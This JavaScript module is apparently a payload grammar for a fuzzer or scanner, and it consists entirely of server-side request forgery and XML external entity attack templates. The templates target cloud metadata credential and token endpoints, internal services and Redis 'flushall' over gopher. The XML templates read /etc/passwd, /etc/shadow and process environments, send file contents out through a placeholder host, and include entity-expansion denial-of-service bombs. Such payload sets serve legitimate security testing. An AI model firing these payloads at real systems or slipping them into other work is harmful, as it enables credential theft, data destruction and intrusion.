/** Requests to inner addresses, and external entities. */
import { lines } from './grammar.mjs'

export const ADDRESS = {
  ssrf: lines`
    §scheme§://§inner§§ipath§
    §scheme§://§inner§§ipath§
    §scheme§://§inner§:§port§§ipath§
    §scheme§://§inner§:§port§/
    §scheme§://§meta§
    §scheme§://§meta§
    §scheme§://§meta§
    §scheme§://§fake§@§inner§§ipath§
    §scheme§://§fake§@§inner§:§port§§ipath§
    §scheme§://§inner§#@§fake§/
    §scheme§://§fake§#@§inner§/
    §scheme§://§fake§\\@§inner§/
    §odd§
    §odd§
    //§inner§:§port§/
    §scheme§:§inner§:§port§
    §scheme§:\\\\§inner§\\§rnd§
    §scheme§://§inner§.nip.io§ipath§
    §scheme§://127.0.0.1.xip.io/
    §scheme§://§inner§:§port§@§fake§/
    url=§scheme§://§inner§§ipath§
    §scheme§://§fake§/redirect?url=§scheme§://§inner§§ipath§
    §scheme§%3A%2F%2F§inner§%2F
    §scheme§://①②⑦.⓪.⓪.①§ipath§
    §scheme§://⑯⑨。②⑤④。⑯⑨｡②⑤④/
    §inner§:§port§
  `,
  scheme: ['http', 'http', 'http', 'https'],
  inner: [
    '127.0.0.1',
    'localhost',
    '0.0.0.0',
    '127.1',
    '127.0.1',
    '0',
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:ffff:127.0.0.1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '017700000001',
    '0x7f.0x0.0x0.0x1',
    '127.127.127.127',
    '10.0.0.§nn§',
    '10.§nn§.§nn§.§nn§',
    '192.168.0.§nn§',
    '192.168.1.1',
    '172.16.0.§nn§',
    '172.17.0.1',
    '169.254.169.254',
    '2852039166',
    '0xa9fea9fe',
    '0251.0376.0251.0376',
    '[::ffff:a9fe:a9fe]',
    'localhost.localdomain',
    'localtest.me',
    'admin.internal',
    'consul.service.consul',
    'redis.local',
    'vault.internal',
    'kubernetes.default.svc',
    'jenkins',
    'db',
    'elasticsearch',
    'internal-api',
    'intranet',
    'spoofed.burpcollaborator.net',
    'ip6-localhost',
    '127.0.0.1.nip.io',
    'lvh.me',
    'host.docker.internal',
    '①②⑦.⓪.⓪.①',
    'LOCALHOST',
    '127。0。0。1',
    '3232235777',
    'gitlab.corp',
    'etcd.kube-system.svc.cluster.local',
  ],
  port: [
    '22',
    '25',
    '80',
    '443',
    '3306',
    '5432',
    '6379',
    '8080',
    '8000',
    '8443',
    '9200',
    '2375',
    '27017',
    '11211',
    '5000',
    '8500',
    '10250',
    '9000',
    '5984',
    '4444',
    '15672',
    '2379',
    '6443',
    '9090',
    '3000',
  ],
  ipath: [
    '',
    '/',
    '/admin',
    '/server-status',
    '/§word§',
    '/api/v1/pods',
    '/v1/agent/self',
    '/_cat/indices',
    '/containers/json',
    '/actuator/env',
    '/console',
    '/manager/html',
    '/metrics',
    '/api/users',
    '/phpmyadmin',
    '/_search?q=*',
    '/script',
    '/health',
    '/config',
    '/debug/pprof',
    '/v1/kv/?recurse',
    '/version',
    '/internal/keys',
    '/jolokia',
    '/solr/admin/cores',
    '/.env',
  ],
  meta: [
    '169.254.169.254/latest/meta-data/',
    '169.254.169.254/latest/meta-data/iam/security-credentials/',
    '169.254.169.254/latest/meta-data/iam/security-credentials/§rnd§',
    '169.254.169.254/latest/user-data',
    '169.254.169.254/latest/dynamic/instance-identity/document',
    '169.254.169.254/latest/api/token',
    '169.254.169.254/',
    '169.254.169.254/computeMetadata/v1/',
    '169.254.169.254/metadata/instance?api-version=2021-02-01',
    '169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/',
    '169.254.169.254/metadata/v1.json',
    '169.254.169.254/metadata/v1/id',
    '169.254.169.254/opc/v2/instance/',
    '169.254.169.254/openstack/latest/meta_data.json',
    '169.254.169.254/hetzner/v1/metadata',
    '169.254.169.254/2009-04-04/meta-data/public-keys/0/openssh-key',
    '169.254.169.254/latest/meta-data/local-ipv4',
    '169.254.170.2/v2/credentials/§hex§',
    'metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'metadata.google.internal/computeMetadata/v1beta1/',
    'metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=json',
    'metadata/computeMetadata/v1/project/',
    '100.100.100.200/latest/meta-data/',
    '100.100.100.200/latest/meta-data/ram/security-credentials/',
    '[fd00:ec2::254]/latest/meta-data/',
    '192.0.0.192/latest/meta-data/',
    'instance-data/latest/meta-data/hostname',
    'metadata.tencentyun.com/latest/meta-data/',
    'rancher-metadata/latest/',
    '0xA9FEA9FE/latest/meta-data/',
    '2852039166/latest/meta-data/',
    '[::ffff:169.254.169.254]/latest/meta-data/',
    'metadata.packet.net/userdata',
    '169.254.169.254.nip.io/latest/meta-data/',
  ],
  fake: [
    'example.com',
    'www.google.com',
    'trusted.example.org',
    'user',
    'admin:pass',
    'a',
    'expected-host.example',
    'foo',
    'google.com:80',
    'user:x',
  ],
  odd: [
    'gopher://§inner§:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a',
    'gopher://§inner§:25/_HELO%20localhost',
    'gopher://§inner§:3306/_%a3%00%00',
    'dict://§inner§:11211/stats',
    'dict://§inner§:6379/info',
    'ftp://§inner§/',
    'ftp://§host§:21/§rnd§',
    'sftp://§host§:11111/',
    'tftp://§host§:69/§rnd§',
    'ldap://§inner§:389/%0astats',
    'ldap://§host§/§rnd§',
    'file:///etc/passwd',
    'file://localhost/etc/passwd',
    'jar:http://§inner§!/',
    'netdoc:///etc/passwd',
    'smb://§inner§/share',
    'rsync://§inner§/',
    'telnet://§inner§:23',
    'ssh2://§inner§:22',
    'imap://§inner§',
    'unix:///var/run/docker.sock',
    'redis://§inner§:6379',
    'local_file:///etc/passwd',
    'svn://§inner§',
    'git://§inner§/',
    'mysql://§inner§:3306',
    'view-source:http://§inner§/',
  ],

  xxe: lines`
    §xml§<!DOCTYPE §dt§ [§el§<!ENTITY §ent§ SYSTEM "§sys§">]><§dt§>&§ent§;</§dt§>
    §xml§<!DOCTYPE §dt§ [<!ENTITY §ent§ SYSTEM "§sys§">]><§dt§><§word§>&§ent§;</§word§></§dt§>
    §xml§<!DOCTYPE §dt§ [ <!ENTITY % §ent§ SYSTEM "§sys§"> %§ent§; ]><§dt§/>
    §xml§<!DOCTYPE §dt§ SYSTEM "http://§host§/§rnd§.dtd"><§dt§>1</§dt§>
    §xml§<!DOCTYPE §dt§ PUBLIC "§rnd§" "§sys§"><§dt§/>
    §xml§<!DOCTYPE §dt§ [<!ENTITY % file SYSTEM "§sys§"><!ENTITY % dtd SYSTEM "http://§host§/e.dtd">%dtd;]><§dt§>&send;</§dt§>
    <!ENTITY % eval "<!ENTITY &#x25; §ent§ SYSTEM 'http://§host§/?x=%file;'>">
    §xml§<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>
    §xml§<!DOCTYPE §dt§ [<!ENTITY a0 "dos"><!ENTITY a1 "&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;">]><§dt§>&a2;</§dt§>
    <foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="§sys§"/></foo>
    <xi:include href="§sys§" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude"/>
    <svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="expect://id"></image></svg>
    §xml§<!DOCTYPE svg [<!ENTITY §ent§ SYSTEM "§sys§">]><svg><text>&§ent§;</text></svg>
    <soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "§sys§"> %dtd;]><xxx/>]]></foo></soap:Body>
    §xml§<!DOCTYPE §dt§ [\n<!ELEMENT §dt§ ANY >\n<!ENTITY §ent§ SYSTEM "§sys§" >]>\n<§dt§>&§ent§;</§dt§>
    <!DOCTYPE §dt§ [<!ENTITY §ent§ "§rnd§"> ]>\n<userInfo>\n <firstName>&§ent§;</firstName>\n</userInfo>
    <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document('§sys§')"/></xsl:stylesheet>
  `,
  xml: [
    '',
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
    '<?xml version="1.0" standalone="yes"?>',
    '<?xml version="1.0" encoding="utf-8"?>\n',
  ],
  dt: ['foo', 'root', 'data', 'test', 'r', 'x', 'order', 'message', 'doc', 'stockCheck', 'user', '§rnd§'],
  el: ['', '<!ELEMENT foo ANY>', '\n<!ELEMENT data (#ANY)>\n', '<!ELEMENT r ANY >'],
  ent: ['xxe', 'ent', 'file', 'x', 'test', 'sp', 'remote', 'payload', '§rnd§'],
  sys: [
    'file:///etc/passwd',
    'file:///etc/shadow',
    'file:///c:/windows/win.ini',
    'file:///c:/boot.ini',
    'http://§host§/',
    'http://§host§/x.dtd',
    'http://169.254.169.254/latest/meta-data/',
    'php://filter/read=convert.base64-encode/resource=index.php',
    'expect://id',
    'http://localhost:8080/',
    'ftp://§host§/',
    'file:///proc/self/environ',
    'jar:http://§host§/x.jar!/x',
    'gopher://§host§',
    'file:///dev/random',
    'https://§host§/§rnd§',
    'netdoc:/etc/passwd',
    'data://text/plain;base64,§b64§',
    'file:///etc/hostname',
  ],
}
